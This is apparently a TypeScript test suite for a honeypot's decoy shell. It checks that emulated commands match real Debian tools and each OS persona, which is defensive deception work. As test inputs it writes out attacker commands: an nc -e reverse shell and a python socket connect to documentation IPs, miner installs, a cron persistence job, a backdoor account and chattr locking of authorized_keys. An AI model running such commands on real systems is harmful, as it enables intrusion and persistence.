// The command families the decoy shell answers (issue 18): text tools compared with Debian's real
// mawk, GNU sed, GNU xargs and busybox on the same inputs; the rest checked against what each persona's
// OS ships and prints (catalogue, busybox multi-call, packages, services, accounts, disks, network).
import { spawnSync } from 'node:child_process'
import type { Persona } from '@decnet/core/schemas'
import { describe, expect, it } from 'vitest'
import { commandCatalogue } from '../src/protocols-text/shell/command-catalogue.ts'
import { shellHost } from '../src/protocols-text/shell/persona.ts'
import { createShell } from '../src/protocols-text/shell/shell.ts'
import { alpinePersona, debianPersona, rockyPersona, ubuntuPersona } from './shell-personas.ts'

const NOW = Date.UTC(2026, 11, 3, 12, 0, 0)
const debian = debianPersona('0123456789abcdef0123456789abcdef')
const rocky = rockyPersona('3'.repeat(32))
const alpine = alpinePersona('2'.repeat(32))
const firmware: Persona = { ...alpinePersona('4'.repeat(32)), family: 'embedded', hostname: 'cam-04' }

function login(persona: Persona, user = 'root', attacker?: string) {
  const host = shellHost(persona, { bindAddress: '10.20.30.40', nowMs: NOW })
  const shell = createShell(host, user, {
    now: () => NOW,
    jitter: () => 0.5,
    ...(attacker ? { attacker } : {}),
  })
  return (line: string) => {
    const outcome = shell.run(line)
    return { output: outcome.output, status: outcome.status ?? 0 }
  }
}

/** The real tool on this machine (Debian): stdout and status. */
function real(tool: string, args: string[], input: string): { output: string; status: number } {
  const result = spawnSync(tool, args, {
    input,
    encoding: 'utf8',
    env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' },
  })
  return { output: result.stdout, status: result.status ?? -1 }
}

const TEXT = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash',
  'MemTotal:       16303452 kB',
  'model name\t: Intel(R) Xeon(R) Gold 6230 CPU @ 2.10GHz',
  '  12  apples  3.5',
  '  7   pears   1.25',
  '',
].join('\n')

describe('awk, sed and xargs behave as Debian’s real ones on the same input', () => {
  const shell = login(debian)
  // Written into the overlay once; each program reads it as a file operand.
  shell(`printf '%s' '${TEXT.replace(/'/g, "'\\''")}' > /tmp/input`)

  const awkPrograms = [
    ['{print $1}'],
    ['-F:', '{print $1, $3}'],
    ['-F:', '$3 >= 1000 {print $1}'],
    ['-F:', '$3 == 0 {print $1; next} {print "other"}'],
    ['/MemTotal/ {print $2}'],
    ['NR==2'],
    ['FNR == 2 {print $2;}'],
    ['NF > 2 {n++} END {print n}'],
    ['{s += $1} END {print s, NR}'],
    ['BEGIN {printf "%s-%d\\n", "x", 42}'],
    ['{print NF, $NF}'],
    ['length($0) > 30 {print substr($0, 1, 10)}'],
    ['$2 ~ /^ap/ {print toupper($2)}'],
    ['!/root/ && NF {c++} END {print c}'],
    ['{ printf "%s ", $1 } END { print "" }'],
    ['-F:', '{print $NF}'],
  ]
  for (const program of awkPrograms) {
    it(`awk ${program.join(' ')}`, () => {
      const quoted = program.map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ')
      const ours = shell(`awk ${quoted} /tmp/input`)
      expect(ours).toEqual(real('mawk', program, TEXT))
    })
  }

  const sedScripts = [
    ['s/root/ROOT/'],
    ['s/o/0/g'],
    ['-n', '2p'],
    ['1d'],
    ['2,4d'],
    ['/nologin/d'],
    ['-n', '/bash$/p'],
    ['s/\\(^[a-z]*\\):.*/\\1/'],
    ['-E', 's/([0-9]+)/<\\1>/2'],
    ['3q'],
    ['$d'],
    ['s#/bin/bash#/bin/sh#'],
    ['-e', 's/a/A/', '-e', 's/e/E/'],
    ['s/^#\\?Mem/mem/'],
  ]
  for (const script of sedScripts) {
    it(`sed ${script.join(' ')}`, () => {
      const quoted = script.map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ')
      expect(shell(`sed ${quoted} /tmp/input`)).toEqual(real('sed', script, TEXT))
    })
  }

  it('sed -i edits the file in the overlay', () => {
    expect(shell("sed -i 's/pears/plums/' /tmp/input; grep -c plums /tmp/input").output).toBe('1\n')
  })

  for (const [args, input] of [
    [['-n', '2', 'echo', 'X'], 'a b c d e'],
    [['-I', '{}', 'echo', '<{}>'], 'one\ntwo\n'],
    [['echo'], 'a\nb  c\n'],
    [['-r', 'echo', 'nothing'], ''],
    [['echo', 'empty'], ''],
  ] as const) {
    it(`xargs ${args.join(' ')}`, () => {
      const quoted = args.map((a) => `'${a}'`).join(' ')
      const ours = shell(`printf '${input.replace(/\n/g, '\\n')}' | xargs ${quoted}`)
      expect(ours).toEqual(real('xargs', [...args], input))
    })
  }
})

describe('what each persona’s OS ships', () => {
  it('unshipped commands fail in the shell’s words; shipped ones answer', () => {
    expect(login(debian)('dnf install x')).toEqual({ output: '-bash: dnf: command not found\n', status: 127 })
    expect(login(rocky)('apt-get update').output).toBe('-bash: apt-get: command not found\n')
    expect(login(alpine)('systemctl status sshd')).toEqual({
      output: '-ash: systemctl: not found\n',
      status: 127,
    })
    expect(login(alpine)('bash -c id').output).toBe('-ash: bash: not found\n')
    for (const [persona, line] of [
      [debian, 'dpkg -l | grep -c openssh'],
      [rocky, 'rpm -q bash'],
      [alpine, 'apk info | grep -c busybox'],
    ] as const)
      expect(login(persona)(line).output).not.toMatch(/not found/)
    // Every GNU command the catalogue ships is implemented (no shipped name falls through to "not found").
    for (const persona of [debian, rocky, alpine, firmware]) {
      const host = shellHost(persona, { bindAddress: '10.20.30.40', nowMs: NOW })
      const shell = login(persona)
      for (const name of commandCatalogue(host).keys()) {
        const { output } = shell(`${name} 2>&1 </dev/null | head -1`)
        // The shell's own "not found" (an applet's or a tool's message about an operand is fine).
        const shellSaid = /^-(?:bash|ash): \S+: (?:command )?not found$/m.test(output)
        expect({ name, persona: persona.os.id, shellSaid }).toEqual({
          name,
          persona: persona.os.id,
          shellSaid: false,
        })
      }
    }
  })

  it('which, type and ls -l agree on where a binary is; merged /usr links resolve', () => {
    const shell = login(debian)
    expect(shell('which ls').output).toBe('/usr/bin/ls\n')
    expect(shell('which useradd').output).toBe('/usr/sbin/useradd\n')
    expect(shell('ls -l /bin/ls').output).toMatch(
      /^-rwxr-xr-x 1 root root \d+ \w{3} [ \d]\d {2}\d{4} \/bin\/ls\n$/,
    )
    expect(shell('ls -lh $(which ls)').output).toMatch(/ \d+K \w{3} .* \/usr\/bin\/ls\n$/)
    expect(login(alpine)('ls -l /bin/ls').output).toMatch(
      /^lrwxrwxrwx +1 root +root +12 .* \/bin\/ls -> \/bin\/busybox\n$/,
    )
    expect(login(alpine)('which wget').output).toBe('/usr/bin/wget\n')
  })

  it('busybox is a multi-call binary: the Mirai canary gets busybox’s own answer', () => {
    const shell = login(firmware)
    const canary = shell('/bin/busybox ECCHI')
    const reference = spawnSync('busybox', ['ECCHI'], { encoding: 'utf8' })
    expect(canary).toEqual({ output: reference.stderr, status: reference.status })
    expect(shell('/bin/busybox echo -e "\\x6b\\x61\\x6d\\x69"').output).toBe('kami\n')
    expect(shell('busybox cat /etc/hostname').output).toBe('cam-04\n')
    expect(shell('busybox').output).toMatch(/^BusyBox v1\.36\.1 .* multi-call binary\.\n/)
    expect(shell('busybox --list | grep -c .').output).toMatch(/^\d{2,}\n$/)
    // A GNU host has no busybox: the path does not exist.
    expect(login(debian)('/bin/busybox ECCHI')).toEqual({
      output: '-bash: /bin/busybox: No such file or directory\n',
      status: 127,
    })
  })

  it('package managers per distro: queries answer, installs fail as a host without its mirrors', () => {
    const apt = login(debian)('apt-get install -y masscan')
    expect(apt.status).toBe(100)
    expect(apt.output).toContain('E: Unable to locate package masscan\n')
    expect(login(debian, 'alice')('apt update').output).toMatch(/are you root\?/)
    expect(login(rocky)('yum install -y gcc')).toMatchObject({ status: 1 })
    expect(login(rocky)('yum install -y gcc').output).toMatch(
      /Could not resolve host: mirrors\.rockylinux\.org/,
    )
    expect(login(alpine)('apk add xmrig').output).toContain('xmrig (no such package)')
  })

  it('systemctl and service keep a stopped unit stopped for the session; non-root is refused', () => {
    const shell = login(debian)
    expect(shell('systemctl is-active ssh')).toEqual({ output: 'active\n', status: 0 })
    expect(shell('systemctl stop ssh; systemctl is-active ssh')).toEqual({ output: 'inactive\n', status: 3 })
    expect(shell('systemctl stop firewalld').output).toBe(
      'Failed to stop firewalld.service: Unit firewalld.service not loaded.\n',
    )
    expect(login(rocky)('systemctl stop firewalld')).toEqual({ output: '', status: 0 })
    expect(login(debian, 'alice')('systemctl stop cron').output).toMatch(
      /^Failed to stop cron\.service: Access denied/,
    )
    expect(login(debian)('service --status-all | grep -c +').output).toMatch(/^\d+\n$/)
  })

  it('accounts: root’s sudo runs the command, useradd persists for the attacker, chpasswd checks users', () => {
    const shell = login(debian, 'root', '203.0.113.9')
    expect(shell('sudo id').output).toBe('uid=0(root) gid=0(root) groups=0(root)\n')
    expect(shell('sudo -l').output).toContain(
      'User root may run the following commands on web-prod-03:\n    (ALL : ALL) ALL\n',
    )
    expect(login(debian, 'alice')('sudo -l').output).toBe('[sudo] password for alice: \nSorry, try again.\n')
    expect(shell('useradd -m -s /bin/bash sysupdate; grep ^sysupdate: /etc/passwd').output).toMatch(
      /^sysupdate:x:\d{4}:\d{4}::\/home\/sysupdate:\/bin\/bash\n$/,
    )
    expect(shell('ls -d /home/sysupdate').output).toBe('/home/sysupdate\n')
    expect(shell('echo sysupdate:pw | chpasswd; echo $?').output).toBe('0\n')
    expect(shell('echo ghost:pw | chpasswd').output).toContain(
      "chpasswd: line 1: user 'ghost' does not exist\n",
    )
    // The next session of the same attacker on this decky still has the account.
    expect(
      login(debian, 'root', '203.0.113.9')('id sysupdate >/dev/null; grep -c sysupdate /etc/passwd').output,
    ).toBe('1\n')
  })

  it('disks, mounts and network come from the persona, in the userland’s layout', () => {
    const shell = login(debian)
    const df = shell('df -h').output.split('\n')
    expect(df[0]).toBe('Filesystem      Size  Used Avail Use% Mounted on')
    expect(df.find((l) => l.endsWith(' /'))).toMatch(/^\/dev\/sda1 +\d+G +\d+G +\d+G +\d+% \/$/)
    expect(shell("df / | tail -1 | awk '{print $1}'").output).toBe('/dev/sda1\n')
    expect(shell('grep " / " /proc/mounts').output).toBe(
      '/dev/sda1 / ext4 rw,relatime,errors=remount-ro 0 0\n',
    )
    expect(login(alpine)('df -h | head -1').output).toBe(
      'Filesystem                Size      Used Available Use% Mounted on\n',
    )
    expect(login(firmware)('mount | grep " / "').output).toMatch(/^overlayfs:\/overlay on \/ type overlay/)
    const netstat = shell('netstat -tlnp').output
    expect(netstat).toMatch(/^tcp +0 +0 0\.0\.0\.0:22 +0\.0\.0\.0:\* +LISTEN +\d+\/sshd$/m)
    expect(netstat).toMatch(/^tcp +0 +0 0\.0\.0\.0:80 +0\.0\.0\.0:\* +LISTEN +\d+\/nginx$/m)
    expect(shell('ss -tln | grep -c LISTEN').output).toBe('2\n')
    expect(shell('ip r').output).toBe(
      'default via 10.20.30.1 dev eth0 proto static\n10.20.30.0/24 dev eth0 proto kernel scope link src 10.20.30.40\n',
    )
    expect(shell('ping -c 1 8.8.8.8')).toMatchObject({ status: 1 })
    // Ubuntu ships OpenBSD netcat: no -e for a reverse shell; Debian's minimal install has no nc.
    const ubuntu = login(ubuntuPersona('1'.repeat(32)))
    expect(ubuntu('nc -e /bin/sh 198.51.100.7 4444')).toMatchObject({
      status: 1,
      output: expect.stringMatching(/^nc: invalid option -- 'e'\nusage: nc /),
    })
    expect(ubuntu('nc 198.51.100.7 4444').output).toBe(
      'nc: connect to 198.51.100.7 port 4444 (tcp) failed: Connection timed out\n',
    )
    expect(ubuntu('nc 127.0.0.1 22').output).toBe('SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10\r\n')
    expect(shell('nc 198.51.100.7 4444').output).toBe('-bash: nc: command not found\n')
    expect(shell('ping -c 2 10.20.30.1').output).toContain(
      '2 packets transmitted, 2 received, 0% packet loss',
    )
  })

  it('process tools: top prints one batch frame, kills of absent miners report nothing found', () => {
    const shell = login(debian)
    expect(shell('top -bn1 | head -1').output).toMatch(
      /^top - 13:00:00 up \d+ days?, +\d+:\d\d, +1 user, +load average: /,
    )
    expect(shell('killall xmrig')).toEqual({ output: 'xmrig: no process found\n', status: 1 })
    expect(shell('pkill -9 kinsing; echo $?').output).toBe('1\n')
    expect(shell('pgrep -l sshd').output).toMatch(/^\d+ sshd\n$/)
    expect(login(alpine)('top -bn1 | head -1').output).toMatch(/^Mem: \d+K used, \d+K free/)
  })

  it('interpreters fail like a host with no way out; python3 is missing on busybox', () => {
    const shell = login(debian)
    expect(shell('python3 -V').output).toBe('Python 3.11.2\n')
    expect(shell('python3 -c "print(\'hi\')"').output).toBe('hi\n')
    expect(
      shell('python3 -c \'import socket,os;s=socket.socket();s.connect(("198.51.100.1",4444))\''),
    ).toMatchObject({
      status: 1,
      output: expect.stringContaining('ConnectionRefusedError: [Errno 111] Connection refused\n'),
    })
    expect(shell('python -V').output).toBe('-bash: python: command not found\n')
    expect(login(alpine)('python3 -V').output).toBe('-ash: python3: not found\n')
    expect(shell('gcc -o x x.c').output).toBe('-bash: gcc: command not found\n')
  })

  it('systemd and DMI tools tell the persona’s identity, the same as uname and os-release', () => {
    const shell = login(debian)
    const hostnamectl = shell('hostnamectl').output
    expect(hostnamectl).toContain(' Static hostname: web-prod-03\n')
    expect(hostnamectl).toContain(`      Machine ID: ${debian.machineId}\n`)
    expect(hostnamectl).toContain('Operating System: Debian GNU/Linux 12 (bookworm)\n')
    expect(hostnamectl).toContain(`          Kernel: Linux ${debian.os.kernel}\n`)
    // The boot id is another 128-bit value, not one derived visibly from the machine id.
    const bootId = /Boot ID: ([0-9a-f]{32})\n/.exec(hostnamectl)?.[1]
    expect(bootId).toMatch(/^[0-9a-f]{32}$/)
    expect([bootId, [...(bootId ?? '')].reverse().join('')]).not.toContain(debian.machineId)
    expect(shell('dmidecode -s system-serial-number').output).toBe(`${debian.hardware.serial}\n`)
    expect(shell('sysctl -n kernel.osrelease').output).toBe(`${debian.os.kernel}\n`)
    expect(shell('timedatectl | grep "Time zone"').output).toBe(
      '                Time zone: Europe/Berlin (CET)\n',
    )
    expect(login(debian, 'alice')('dmidecode')).toMatchObject({ status: 1 })
    expect(login(alpine)('hostnamectl').output).toBe('-ash: hostnamectl: not found\n')
  })

  it('crontab persists in the spool file of the attacker’s overlay; chattr marks stick for lsattr', () => {
    const shell = login(rocky, 'root', '203.0.113.10')
    shell('(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x") | crontab -')
    expect(login(rocky, 'root', '203.0.113.10')('crontab -l; ls /var/spool/cron').output).toBe(
      '*/5 * * * * /tmp/.x\nroot\n',
    )
    expect(shell('chattr +ia /root/.ssh/authorized_keys; lsattr /root/.ssh/authorized_keys').output).toBe(
      '----ia--------e------- /root/.ssh/authorized_keys\n',
    )
    expect(login(debian, 'alice')('chattr +i /etc/passwd').output).toBe(
      'chattr: Operation not permitted while setting flags on /etc/passwd\n',
    )
  })
})
